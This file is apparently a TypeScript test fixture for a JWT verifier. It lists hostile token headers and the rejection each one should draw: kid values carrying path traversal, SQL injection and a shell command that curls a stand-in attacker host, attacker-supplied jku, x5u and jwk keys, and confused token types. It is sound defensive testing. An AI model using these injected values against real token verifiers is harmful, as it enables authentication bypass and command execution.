import { compact } from '../../signing.ts'
import { attackerKey, keys, ownKeys } from '../issuers.ts'
import { tokens } from '../row.ts'

/** What a header may not say, however good the signature; and what its `kid` cannot do. */

const misnamed = (kid: unknown) => ({ kid, alg: 'ES256' })

export const headerRows = [
  ...tokens('key ids', [
    [
      'a path to an empty file',
      'unknown_key',
      (world) => world.token({}, misnamed('../../../../dev/null'), attackerKey),
    ],
    [
      'SQL',
      'unknown_key',
      (world) => world.token({}, misnamed("x' UNION SELECT 'INTRUDER';--"), attackerKey),
    ],
    [
      'a shell command',
      'unknown_key',
      (world) => world.token({}, misnamed('es; curl https://intruder.example/INTRUDER'), attackerKey),
    ],
    [
      'an address',
      'unknown_key',
      (world) => world.token({}, misnamed(`${world.attacker.address}/jwks`), attackerKey),
    ],
    [
      'what every object inherits',
      'unknown_key',
      (world) => world.token({}, misnamed('__proto__'), attackerKey),
    ],
    ['a good one in capitals', 'unknown_key', (world) => world.token({}, misnamed('ES'), attackerKey)],
    ['a good one with a NUL', 'unknown_key', (world) => world.token({}, misnamed('es\u0000'), attackerKey)],
    ['an empty text', 'unknown_key', (world) => world.token({}, misnamed(''), attackerKey)],
    [
      'a number, where a key has it as text',
      'key_id',
      (world) => world.token({}, misnamed(7), keys.numbered),
    ],
    ['a list of a good one', 'key_id', (world) => world.token({}, misnamed(['es']))],
    ['null', 'key_id', (world) => world.token({}, misnamed(null), keys.es)],
    ['a very long one, though a key has it', 'key_id', (world) => world.token({}, {}, keys.longNamed)],
    ['the number of the first key', 'unknown_key', (world) => world.token({}, misnamed('0'), attackerKey)],
  ]),

  ...tokens('keys in the header', [
    ['a public key', 'header', (world) => world.token({}, { jwk: attackerKey.jwk })],
    [
      'a public key, signed with it',
      'header',
      (world) => world.token({}, { jwk: attackerKey.jwk }, attackerKey),
    ],
    [
      'an address of keys, signed with one of them',
      'signature',
      (world) => world.token({}, { jku: `${world.attacker.address}/jwks` }, attackerKey),
    ],
    [
      'an address of keys, signed with one of them under its own name',
      'unknown_key',
      (world) => world.token({}, { jku: `${world.attacker.address}/jwks`, kid: 'theirs' }, attackerKey),
    ],
    [
      'an address of certificates, signed with one of them',
      'signature',
      (world) => world.token({}, { x5u: `${world.attacker.address}/cert.pem` }, attackerKey),
    ],
    [
      'a certificate, signed with its key',
      'signature',
      (world) => world.token({}, { x5c: ['SU5UUlVERVI='] }, attackerKey),
    ],
    ['a key that is null', 'header', (world) => world.token({}, { jwk: null })],
  ]),

  ...tokens('extensions', [
    ['an unencoded payload (RFC 7797)', 'header', (world) => world.token({}, { b64: false, crit: ['b64'] })],
    ['an unencoded payload that is not critical', 'header', (world) => world.token({}, { b64: false })],
    [
      'an encoded payload, said explicitly',
      'header',
      (world) => world.token({}, { b64: true, crit: ['b64'] }),
    ],
    [
      'a critical extension that nobody knows',
      'header',
      (world) => world.token({}, { crit: ['INTRUDER'], INTRUDER: true }),
    ],
    ['a critical parameter that is none', 'header', (world) => world.token({}, { crit: ['alg'] })],
    ['an empty list of critical extensions', 'header', (world) => world.token({}, { crit: [] })],
    ['critical extensions as a text', 'header', (world) => world.token({}, { crit: 'b64', b64: true })],
  ]),

  ...tokens('kinds of token', [
    ['a logout token', 'type', (world) => world.token({ events: {} }, { typ: 'logout+jwt' })],
    ['a security event', 'type', (world) => world.token({}, { typ: 'application/secevent+jwt' })],
    ['a proof of possession', 'type', (world) => world.token({ htm: 'POST' }, { typ: 'dpop+jwt' })],
    ['an authorization request', 'type', (world) => world.token({}, { typ: 'oauth-authz-req+jwt' })],
    ['a type that is a list', 'type', (world) => world.token({}, { typ: ['JWT'] })],
    [
      'an id token where an access token is asked for',
      'type',
      (world) => world.tokenFrom('typed', { at_hash: 'x' }, { typ: 'JWT' }),
    ],
    ['a token without a type where one is asked for', 'type', (world) => world.tokenFrom('typed')],
    [
      'an access token with a suffix',
      'type',
      (world) => compact({ typ: 'at+jwt;v=1' }, world.claims({}, 'typed'), ownKeys.typed),
    ],
    ['a type that looks alike', 'type', (world) => world.tokenFrom('typed', {}, { typ: 'аt+jwt' })],
  ]),
]
